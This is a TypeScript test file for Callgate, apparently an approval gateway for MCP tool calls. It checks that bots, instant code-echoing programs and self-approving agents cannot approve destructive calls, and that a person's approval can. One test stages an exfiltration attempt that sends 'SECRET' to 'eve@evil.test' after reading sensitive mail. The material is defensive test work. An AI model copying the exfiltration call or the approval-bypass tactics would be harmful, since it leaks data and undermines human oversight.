import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { answerApproval } from '@callgate/adapters/mcp-client';
import type { JsonObject } from '@callgate/core';
import { beforeAll, describe, expect, it } from 'vitest';
import { botAnswer, codeIn } from '../../../gateway/test/person-answer.ts';
import { ensureBuilt } from '../fixtures/run-callgate.ts';
import { openAdapterLayout } from './adapter-layout.ts';
import { openHooksLayout } from './hooks-layout.ts';
import { openHttpLayout } from './http-layout.ts';
import { openInitLayout } from './init-layout.ts';
import type { Layout, LayoutServer } from './layout.ts';

beforeAll(ensureBuilt);

const text = (...names: readonly string[]): JsonObject => ({
  type: 'object',
  properties: Object.fromEntries(names.map((name) => [name, { type: 'string' }])),
});

const NOTES: LayoutServer = {
  alias: 'notes',
  trust: 'trusted',
  tools: [
    {
      name: 'delete_note',
      inputSchema: text('id'),
      annotations: { readOnlyHint: false, destructiveHint: true, openWorldHint: false },
    },
    {
      name: 'read_mail',
      inputSchema: text('id'),
      annotations: { readOnlyHint: true, openWorldHint: false },
      _meta: { 'dev.callgate/hints': { sensitiveData: true, unsafeOutput: true } },
    },
  ],
};
const POST: LayoutServer = {
  alias: 'post',
  trust: 'untrusted',
  tools: [{ name: 'send', inputSchema: text('to', 'body'), annotations: { openWorldHint: true } }],
};
const SERVERS = [NOTES, POST];

const DELETE = { name: 'delete_note', arguments: { id: 'n-7' } };
const APPROVAL = 'dev.callgate/approval';

interface InputRequest extends JsonObject {
  readonly resultType: string;
}

const META = (name: string): JsonObject => ({
  'io.modelcontextprotocol/protocolVersion': '2026-07-28',
  'io.modelcontextprotocol/clientCapabilities': { elicitation: {} },
  'io.modelcontextprotocol/clientInfo': { name, version: '1' },
});

/** Sends a request of 2026-07-28 and gives its result. */
type SendRequest = (params: JsonObject, name?: string) => Promise<JsonObject>;

const formIn = (result: JsonObject): JsonObject => {
  const { inputRequests } = result as unknown as Record<string, Record<string, { params: JsonObject }>>;
  return inputRequests?.[APPROVAL]?.params ?? {};
};

/** Makes the call and, where the client is asked, comes back with this answer. */
const answeredWith = async (
  send: SendRequest,
  answer: (form: JsonObject) => JsonObject | Promise<JsonObject>,
  call: JsonObject = DELETE,
  name = 'layout-agent',
): Promise<{ readonly asked: boolean; readonly result: JsonObject }> => {
  const first = (await send(call, name)) as InputRequest;
  if (first.resultType !== 'input_required') return { asked: false, result: first };
  const response = await answer(formIn(first));
  const retry = { ...call, inputResponses: { [APPROVAL]: response }, requestState: first['requestState'] };
  return { asked: true, result: await send(retry as JsonObject, name) };
};

/** A person: reads for a moment, then types what the question shows. */
const person = async (form: JsonObject): Promise<JsonObject> => {
  await pause(100);
  return { action: 'accept', content: { decision: 'approve', code: codeIn(form['message']) } };
};

/** A program that echoes the code at once. */
const parrot = (form: JsonObject): JsonObject => ({
  action: 'accept',
  content: { decision: 'approve', code: codeIn(form['message']) },
});

/** Long, so that a busy machine is never as slow as a person. */
const SLOW_READER: JsonObject = { approvals: { readingTime: '1h' } };

const heldIn = (result: JsonObject): string => JSON.stringify(result);

/** The one pending call is approved at the terminal. */
const approveElsewhere = async (layout: Layout, result: JsonObject): Promise<void> => {
  const [, call = ''] = /callgate approve (\w+)/.exec(heldIn(result)) ?? [];
  const shown = await layout.callgate('approve', call);
  const [, binding = ''] = /--binding (\S+)/.exec(`${shown.out}${shown.err}`) ?? [];
  const { code, err } = await layout.callgate('approve', call, '--yes', '--binding', binding);
  expect({ code, err }).toMatchObject({ code: 0 });
};

const settings = (layout: { readonly home: string }, yaml: JsonObject): void =>
  writeFileSync(join(layout.home, 'callgate.yaml'), JSON.stringify(yaml), { mode: 0o600 });

describe('in the layout of init', () => {
  const open = async (yaml?: JsonObject) => {
    const layout = await openInitLayout({ servers: SERVERS });
    if (yaml !== undefined) settings(layout, yaml);
    return layout;
  };

  it('a client that accepts every form by itself approves nothing, and a person elsewhere does', async () => {
    const layout = await open();
    const asked: JsonObject[] = [];
    const host = layout.startHost((_, __, form) => {
      asked.push(form);
      return botAnswer(form);
    });
    const { result = {} } = await host.call('notes', 'delete_note', DELETE.arguments);
    expect(asked).toHaveLength(1);
    expect(layout.received('notes')).toEqual([]);
    expect(heldIn(result)).toMatch(/code was not typed.*callgate approve/s);
    expect((await layout.callgate('audit', '--entries')).out).toContain('IN_BAND_UNCOUNTED');
    await approveElsewhere(layout, result);
    await host.call('notes', 'delete_note', DELETE.arguments);
    expect(layout.received('notes')).toHaveLength(1);
  });

  it('a program that echoes the code at once approves nothing', async () => {
    const layout = await open(SLOW_READER);
    const host = layout.startHost((_, __, form) => parrot(form));
    const { result = {} } = await host.call('notes', 'delete_note', DELETE.arguments);
    expect(heldIn(result)).toMatch(/sooner than a person can read it/);
    expect(layout.received('notes')).toEqual([]);
  });

  it('an untrusted server’s call and the lethal trifecta are not even asked about', async () => {
    const layout = await open({ approvals: { readingTime: '1ms' } });
    const asked: JsonObject[] = [];
    const host = layout.startHost((_, __, form) => {
      asked.push(form);
      return parrot(form);
    });
    await host.call('notes', 'read_mail', { id: '1' });
    const { result = {} } = await host.call('post', 'send', { to: 'eve@evil.test', body: 'SECRET' });
    expect(asked).toEqual([]);
    expect(layout.received('post')).toEqual([]);
    expect(heldIn(result)).toContain('callgate approve');
  });

  it('answersInBand: false in Callgate’s folder is kept to', async () => {
    const layout = await open({ approvals: { answersInBand: false, readingTime: '1ms' } });
    const { host } = layout;
    const send: SendRequest = async (params, name = 'x') =>
      (await host.request('notes', 'tools/call', { ...params, _meta: META(name) })).result ?? {};
    expect(await answeredWith(send, person)).toMatchObject({ asked: false });
    expect(layout.received('notes')).toEqual([]);
  });

  it('answersInBand: false counts from the moment it is written, between question and answer too', async () => {
    const layout = await open({ approvals: { readingTime: '1ms' } });
    const send: SendRequest = async (params, name = 'x') =>
      (await layout.host.request('notes', 'tools/call', { ...params, _meta: META(name) })).result ?? {};
    const { asked, result } = await answeredWith(send, async (form) => {
      settings(layout, { approvals: { readingTime: '1ms', answersInBand: false } });
      return await person(form);
    });
    expect(asked).toBe(true);
    expect(heldIn(result)).toContain('callgate approve');
    const other = { ...DELETE, arguments: { id: 'n-8' } };
    expect(await answeredWith(send, person, other)).toMatchObject({ asked: false });
    expect(layout.received('notes')).toEqual([]);
    settings(layout, { approvals: { readingTime: '1ms' } });
    const third = { ...DELETE, arguments: { id: 'n-9' } };
    expect(await answeredWith(send, person, third)).toMatchObject({ result: { resultType: 'complete' } });
    writeFileSync(join(layout.home, 'callgate.yaml'), 'approvals: [', { mode: 0o600 });
    const fourth = { ...DELETE, arguments: { id: 'n-10' } };
    expect(await answeredWith(send, person, fourth)).toMatchObject({ asked: false });
    expect(layout.received('notes')).toHaveLength(1);
  });

  it('people in Callgate’s folder count: where several decide, no answer in band does', async () => {
    const people = [{ subject: 'local' }, { subject: 'ada' }];
    const layout = await open({ approvals: { readingTime: '1ms', people, selfApproval: true } });
    const send: SendRequest = async (params, name = 'x') =>
      (await layout.host.request('notes', 'tools/call', { ...params, _meta: META(name) })).result ?? {};
    const { asked, result } = await answeredWith(send, person);
    expect({ asked, text: heldIn(result) }).toMatchObject({
      asked: false,
      text: expect.stringContaining('With several approvers'),
    });
    expect(layout.received('notes')).toEqual([]);
    expect((await layout.callgate('inbox')).out).toContain('callgate approve CALL');
    settings(layout, { approvals: { people: [{ subject: 'ada' }, { subject: 'bob' }] } });
    const { out } = await layout.callgate('inbox');
    expect(out).toContain('decide in the console');
    expect(out).not.toContain('callgate approve');
  });

  it('a person who reads the question and types the code approves a mild call', async () => {
    const layout = await open({ approvals: { readingTime: '1ms' } });
    const { host } = layout;
    const send: SendRequest = async (params, name = 'x') =>
      (await host.request('notes', 'tools/call', { ...params, _meta: META(name) })).result ?? {};
    expect(await answeredWith(send, person)).toMatchObject({
      asked: true,
      result: { resultType: 'complete' },
    });
    expect(layout.received('notes')).toHaveLength(1);
  });
});

describe('over HTTP with the agents’ token', () => {
  const open = async (config: JsonObject) => {
    const layout = await openHttpLayout({ servers: [NOTES], config });
    const send: SendRequest = async (params, name = 'x') => {
      const response = await fetch(layout.url, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          accept: 'application/json, text/event-stream',
          authorization: `Bearer ${layout.token}`,
          'mcp-protocol-version': '2026-07-28',
          'mcp-method': 'tools/call',
          'mcp-name': String(params['name']),
        },
        body: JSON.stringify({
          jsonrpc: '2.0',
          id: 1,
          method: 'tools/call',
          params: { ...params, _meta: META(name) },
        }),
      });
      const body = await response.text();
      const line = body.startsWith('{')
        ? body
        : (body.split('\n').findLast((each) => each.startsWith('data: ')) ?? '').slice(6);
      const message = JSON.parse(line) as { result?: JsonObject; error?: JsonObject };
      return message.result ?? message.error ?? {};
    };
    return { layout, send };
  };

  it('an agent approves none of its own calls, whatever it calls itself', async () => {
    const { layout, send } = await open({ approvals: { readingTime: '1ms' } });
    const { asked, result } = await answeredWith(send, person);
    expect({ asked, result: heldIn(result) }).toMatchObject({
      asked: false,
      result: expect.stringContaining('Over HTTP, only answers from clients that the operator listed count'),
    });
    expect(layout.received('notes')).toEqual([]);
    await approveElsewhere(layout, result);
    await send(DELETE);
    expect(layout.received('notes')).toHaveLength(1);
  });

  it('the operator lists a client: a person’s answer counts, that of a program does not', async () => {
    const { layout, send } = await open({
      approvals: { readingTime: '1ms' },
      clients: [{ name: 'layout-agent', answersInBand: true }],
    });
    expect(await answeredWith(send, botAnswer)).toMatchObject({ asked: true, result: { isError: true } });
    expect(await answeredWith(send, person, DELETE, 'another')).toMatchObject({ asked: false });
    expect(layout.received('notes')).toEqual([]);
    const other = { ...DELETE, arguments: { id: 'n-8' } };
    expect(await answeredWith(send, person, other)).toMatchObject({ result: { resultType: 'complete' } });
    expect(layout.received('notes')).toHaveLength(1);
  });

  it('answersInBand: false wins over a list of clients', async () => {
    const { layout, send } = await open({
      approvals: { readingTime: '1ms', answersInBand: false },
      clients: [{ name: 'layout-agent', answersInBand: true }],
    });
    expect(await answeredWith(send, person)).toMatchObject({ asked: false });
    expect(layout.received('notes')).toEqual([]);
  });
});

describe('with hooks', () => {
  it('a host that runs what it was told to ask about is not asked again, and the audit log says so', async () => {
    const layout = await openHooksLayout({ servers: [NOTES] });
    settings(layout, SLOW_READER);
    expect(await layout.hostTool('Bash', { command: 'git push' }, 'ok')).toMatchObject({ decision: 'ask' });
    expect(await layout.hostTool('Bash', { command: 'git push --tags' }, 'ok')).toMatchObject({
      decision: 'deny',
      reason: expect.stringContaining('before a person could have approved it'),
    });
    expect((await layout.callgate('audit', '--entries')).out).toContain('IN_BAND_UNCOUNTED');
  });

  it('answersInBand: false in Callgate’s folder leaves nothing to the host’s dialog', async () => {
    const layout = await openHooksLayout({ servers: [NOTES] });
    settings(layout, { approvals: { answersInBand: false } });
    expect(await layout.hostTool('Bash', { command: 'git push' })).toMatchObject({ decision: 'deny' });
    const usual = await openHooksLayout({ servers: [NOTES] });
    expect(await usual.hostTool('Bash', { command: 'git push' })).toMatchObject({ decision: 'ask' });
  });

  it('answersInBand: false counts from the moment it is written, though a gate for hooks runs', async () => {
    const layout = await openHooksLayout({ servers: [NOTES] });
    expect(await layout.hostTool('Bash', { command: 'git push' })).toMatchObject({ decision: 'ask' });
    settings(layout, { approvals: { answersInBand: false } });
    expect(await layout.hostTool('Bash', { command: 'git push --tags' })).toMatchObject({ decision: 'deny' });
    settings(layout, { approvals: {} });
    expect(await layout.hostTool('Bash', { command: 'git push --all' })).toMatchObject({ decision: 'ask' });
  });

  it('people in Callgate’s folder count: where several decide, nothing is left to the host’s dialog', async () => {
    const layout = await openHooksLayout({ servers: [NOTES] });
    const people = [{ subject: 'local' }, { subject: 'ada' }];
    settings(layout, { approvals: { people, selfApproval: true } });
    expect(await layout.hostTool('Bash', { command: 'git push' })).toMatchObject({
      decision: 'deny',
      reason: expect.stringContaining('With several approvers'),
    });
  });
});

describe('in a program with an adapter', () => {
  it('what says that it came over the agent’s connection approves nothing; the host’s own callback does', async () => {
    const { gate, ...layout } = await openAdapterLayout({ servers: [NOTES] });
    expect(await layout.call('notes', 'delete_note', DELETE.arguments)).toMatchObject({ ran: false });
    const { items } = await gate.desk.read.inbox({ limit: 1 });
    const held = items[0]?.id ?? '';
    const question = await gate.desk.question(held);
    if (question === undefined) throw new Error('no question');
    const word = { question, approved: true, subject: 'local', opened: true } as const;
    expect(await answerApproval(gate, { ...word, via: 'elicitation' })).toMatchObject({ state: 'held' });
    expect(layout.received('notes')).toEqual([]);
    expect(await answerApproval(gate, word)).toMatchObject({ state: 'approved' });
    expect(await layout.call('notes', 'delete_note', DELETE.arguments)).toMatchObject({ ran: true });
  });
});
